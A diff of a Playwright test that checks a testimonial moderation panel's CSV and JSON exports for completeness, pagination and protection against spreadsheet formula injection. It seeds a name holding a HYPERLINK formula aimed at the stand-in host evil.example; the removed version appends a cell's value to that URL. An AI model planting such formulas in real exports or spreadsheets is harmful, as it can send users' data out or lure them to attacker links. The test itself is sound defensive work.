@@ -1,100 +1,86 @@
-// The owner takes her data home: the moderation panel exports every record, in all three states,
-// as CSV and JSON, downloaded and parsed here as she would open them.
-import { randomBytes } from "node:crypto";
+// The owner takes her data home: every record, in all three states, as CSV and as JSON, read
+// page by page; CSV cells that could start a spreadsheet formula are neutralised.
 import { readFile } from "node:fs/promises";
 import { expect, test, type Page } from "./fixtures";
+import { EXPORT_COLUMNS } from "@/lib/export";
 import { messages } from "@/lib/messages";
-import type { ExportRecord } from "@/lib/testimonial-export";
 import { demo, signIn } from "../support/account";
 import { parseCsv } from "../support/csv";
 import { eraseTestimonials, seedTestimonials } from "../support/testimonials";
 
-const t = messages.admin.export;
-const tag = randomBytes(3).toString("hex");
-const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
-const seeded = [
-  {
-    id: `export-pending-${tag}`,
-    name: FORMULA,
-    status: "pending" as const,
-    email: `p.${tag}@example.com`,
-  },
-  {
-    id: `export-approved-${tag}`,
-    name: `Published ${tag}`,
-    status: "approved" as const,
-    email: `a.${tag}@example.com`,
-  },
-  {
-    id: `export-rejected-${tag}`,
-    name: `Rejected ${tag}`,
-    status: "rejected" as const,
-    email: `r.${tag}@example.com`,
-  },
-].map((item, i) => ({ ...item, createdAt: new Date(Date.UTC(2026, 10, 1, 9, i)) }));
+const t = messages.admin.exportData;
 
-test.beforeAll(async () => seedTestimonials(seeded));
-test.afterAll(async () => eraseTestimonials(seeded.map((s) => s.id)));
-
-async function download(page: Page, button: string) {
+async function exportFile(page: Page, button: string) {
   const downloading = page.waitForEvent("download");
   await page.getByRole("button", { name: button }).click();
   const file = await downloading;
-  const notice = page.locator("[data-export]").getByRole("status");
-  await expect(notice).toHaveText(
-    t.done(Number(/-(\d+)\.\w+$/.exec(file.suggestedFilename())![1]), file.suggestedFilename()),
-  );
-  return { name: file.suggestedFilename(), text: await readFile((await file.path())!, "utf8") };
+  const name = file.suggestedFilename();
+  const text = await readFile((await file.path())!, "utf8");
+  await expect(page.locator("[data-export-status]")).toContainText(name);
+  return { name, text };
 }
 
-test("the panel exports every record of every state as CSV and as JSON", async ({ page }) => {
-  await page.goto("/admin/testimonials");
-  await signIn(page, demo.admin.email, demo.admin.password);
-  await expect(page.getByRole("heading", { name: t.title })).toBeVisible();
+test("both exports hold every record in all three states, and the CSV is safe to open", async ({
+  page,
+}) => {
+  test.slow();
+  const stamp = Date.now().toString(36);
+  const formula = `=HYPERLINK("http://evil.example","Click") ${stamp}`;
+  const items = (["pending", "approved", "rejected"] as const).map((status, i) => ({
+    id: `export-${stamp}-${status}`,
+    name: i === 0 ? formula : `Export ${status} ${stamp}`,
+    status,
+    createdAt: new Date(Date.UTC(2024, 0, 1 + i)),
+  }));
+  // More than a page (25), so the export must read page by page.
+  const filler = Array.from({ length: 30 }, (_, i) => ({
+    id: `export-${stamp}-f${i}`,
+    name: `Export filler ${i} ${stamp}`,
+    status: "rejected" as const,
+    createdAt: new Date(Date.UTC(2024, 1, 1, 0, i)),
+  }));
+  await seedTestimonials([...items, ...filler]);
+  try {
+    await page.goto("/admin/testimonials");
+    await signIn(page, demo.admin.email, demo.admin.password);
 
-  const csv = await download(page, t.csv);
-  expect(csv.name).toMatch(/^testimonials-\d{4}-\d{2}-\d{2}-\d+\.csv$/);
-  const [header, ...rows] = parseCsv(csv.text);
-  expect(header).toEqual([
-    "ID",
-    "Name",
-    "Role",
-    "Company",
-    "Email",
-    "Message",
-    "Image URL",
-    "Status",
-    "Consent time",
-    "Submitted",
-    "Decided",
-    "Featured",
-  ]);
-  expect(rows.length).toBe(Number(/-(\d+)\.csv$/.exec(csv.name)![1]));
-  const byId = new Map(rows.map((row) => [row[0], row]));
-  for (const item of seeded) {
-    const row = byId.get(item.id)!;
-    expect(row, item.id).toBeDefined();
-    expect(row[4]).toBe(item.email);
-    expect(row[7]).toBe(item.status);
-    expect(row[8]).toBe(item.createdAt.toISOString());
-    expect(row[10]).toBe(item.status === "pending" ? "" : item.createdAt.toISOString());
+    const csv = await exportFile(page, t.csv);
+    const rows = parseCsv(csv.text.replace(/^\uFEFF/, ""));
+    expect(rows[0]).toEqual([...EXPORT_COLUMNS]);
+    const count = rows.length - 1;
+    expect(csv.name).toMatch(
+      new RegExp(`^testimonials-\\d{4}-\\d{2}-\\d{2}-${count}-records\\.csv$`),
+    );
+    await expect(page.locator("[data-export-status]")).toHaveText(t.done(count, csv.name));
+    const byId = new Map(rows.slice(1).map((row) => [row[0], row]));
+    expect(new Set(rows.slice(1).map((row) => row[0])).size).toBe(count);
+    for (const item of [...items, ...filler]) expect(byId.has(item.id)).toBe(true);
+    const col = (key: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(key);
+    for (const item of items) {
+      const row = byId.get(item.id)!;
+      expect(row[col("status")]).toBe(item.status);
+      expect(row[col("email")]).toBe(`${item.id}@example.com`);
+      expect(row[col("consentAt")]).toBe(item.createdAt.toISOString());
+      expect(row[col("submittedAt")]).toBe(item.createdAt.toISOString());
+      expect(row[col("featured")]).toBe("false");
+    }
+    // The formula comes out as text: a leading ' and nothing a spreadsheet would run.
+    expect(byId.get(items[0]!.id)![col("name")]).toBe(`'${formula}`);
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    const json = await exportFile(page, t.json);
+    const records = JSON.parse(json.text) as Record<string, unknown>[];
+    expect(json.name).toMatch(new RegExp(`-${records.length}-records\\.json$`));
+    for (const item of items) {
+      expect(records.find((r) => r.id === item.id)).toMatchObject({
+        name: item.name,
+        status: item.status,
+        email: `${item.id}@example.com`,
+        consentAt: item.createdAt.toISOString(),
+        featured: false,
+      });
+    }
+  } finally {
+    await eraseTestimonials([...items, ...filler].map((item) => item.id));
   }
-  // A visitor's formula reaches the spreadsheet as text.
-  expect(byId.get(seeded[0]!.id)![1]).toBe(`'${FORMULA}`);
-
-  const json = await download(page, t.json);
-  expect(json.name).toMatch(/^testimonials-\d{4}-\d{2}-\d{2}-\d+\.json$/);
-  const data = JSON.parse(json.text) as { count: number; testimonials: ExportRecord[] };
-  expect(data.testimonials.length).toBe(data.count);
-  expect(data.count).toBe(Number(/-(\d+)\.json$/.exec(json.name)![1]));
-  const pending = data.testimonials.find((r) => r.id === seeded[0]!.id)!;
-  expect(pending).toMatchObject({
-    name: FORMULA,
-    email: seeded[0]!.email,
-    status: "pending",
-    consentAt: seeded[0]!.createdAt.toISOString(),
-  });
-  expect(new Set(data.testimonials.map((r) => r.status))).toEqual(
-    new Set(["pending", "approved", "rejected"]),
-  );
 });
